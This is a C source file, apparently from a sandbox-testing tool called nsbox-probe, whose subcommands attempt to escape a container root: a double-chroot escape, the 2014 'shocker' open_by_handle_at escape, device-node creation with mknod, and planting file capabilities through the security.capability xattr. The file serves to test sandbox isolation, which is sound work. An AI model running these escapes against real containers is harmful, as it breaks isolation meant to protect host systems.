/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* nsbox-probe's subcommands that try to escape the root: chroot-escape, shocker, cwd, mknod, setfcap. */
#include "nsbox-probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

/* ---------------------------------------------------------------------
 * Escapes from the root.
 */

/* chroot-escape: the classic double chroot with CAP_SYS_CHROOT, then list
 * the root we ended up in. */
int cmd_chroot_escape(void)
{
	struct dirent *e;
	DIR *d;

	if (mkdir("/tmp/nsbox-probe-jail", 0700) < 0 && errno != EEXIST)
		return outcome(-1);
	if (chroot("/tmp/nsbox-probe-jail") < 0) {
		printf("chroot=%s\n", errname(errno));
		return 0;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		printf("chroot-back=%s\n", errname(errno));
		return 0;
	}
	d = opendir("/");
	if (!d)
		return outcome(-1);
	printf("ROOT:");
	while ((e = readdir(d)))
		if (e->d_name[0] != '.')
			printf(" %s", e->d_name);
	putchar('\n');
	closedir(d);
	return 0;
}

/* shocker: Docker's 2014 open_by_handle_at escape: a handle for inode 2
 * (the root of an ext* filesystem) opened on the mount of "/". */
int cmd_shocker(void)
{
	struct {
		struct file_handle h;
		unsigned char bytes[8];
	} fh;
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), fd;
	uint32_t ino = 2;

	if (root < 0)
		return outcome(-1);
	memset(&fh, 0, sizeof(fh));
	fh.h.handle_bytes = 8;
	fh.h.handle_type = 1;   /* FILEID_INO32_GEN */
	memcpy(fh.h.f_handle, &ino, sizeof(ino));
	fd = (int)syscall(SYS_open_by_handle_at, root, &fh.h, O_RDONLY | O_DIRECTORY);
	if (fd < 0) {
		printf("open_by_handle_at=%s\n", errname(errno));
		return 0;
	}
	{
		/* Show where it leads: the filesystem's root, outside our own. */
		DIR *d = fdopendir(fd);
		struct dirent *e;

		printf("open_by_handle_at=OK ROOT-OF-FS:");
		while (d && (e = readdir(d)))
			if (e->d_name[0] != '.')
				printf(" %s", e->d_name);
		putchar('\n');
		if (d)
			closedir(d);
		else
			close(fd);
	}
	return 0;
}

/* cwd: the working directory, as getcwd says, and what ".." holds. */
int cmd_cwd(void)
{
	char buf[PATH_MAX];
	struct dirent *e;
	DIR *d;

	if (!getcwd(buf, sizeof(buf)))
		printf("CWD=(%s)\n", errname(errno));
	else
		printf("CWD=%s\n", buf);
	d = opendir("..");
	if (!d)
		return outcome(-1);
	printf("PARENT:");
	while ((e = readdir(d)))
		if (e->d_name[0] != '.')
			printf(" %s", e->d_name);
	putchar('\n');
	closedir(d);
	return 0;
}

/* mknod PATH MAJOR MINOR: a character device node, then open it. */
int cmd_mknod(int argc, char **argv)
{
	int fd;

	if (argc != 5)
		return usage();
	if (mknod(argv[2], S_IFCHR | 0666, makedev(atoi(argv[3]), atoi(argv[4]))) < 0) {
		printf("mknod=%s\n", errname(errno));
		return 0;
	}
	fd = open(argv[2], O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
	printf("mknod=OK open=%s\n", fd < 0 ? errname(errno) : "OK");
	if (fd >= 0)
		close(fd);
	return 0;
}

/* setfcap FILE CAP: give FILE the file capability CAP (a number) in its
 * permitted and effective sets, as `setcap CAP+ep FILE` (run on the host,
 * to plant it in an image; no libcap2-bin needed). */
int cmd_setfcap(int argc, char **argv)
{
	uint32_t data[5];   /* struct vfs_cap_data, revision 2 */
	int cap;

	if (argc != 4)
		return usage();
	cap = atoi(argv[3]);
	if (cap < 0 || cap > 63)
		return usage();
	memset(data, 0, sizeof(data));
	data[0] = 0x02000000 | 0x1;   /* VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE */
	data[1 + 2 * (cap / 32)] = 1U << (cap % 32);   /* permitted */
	return outcome(setxattr(argv[2], "security.capability", data, sizeof(data), 0));
}
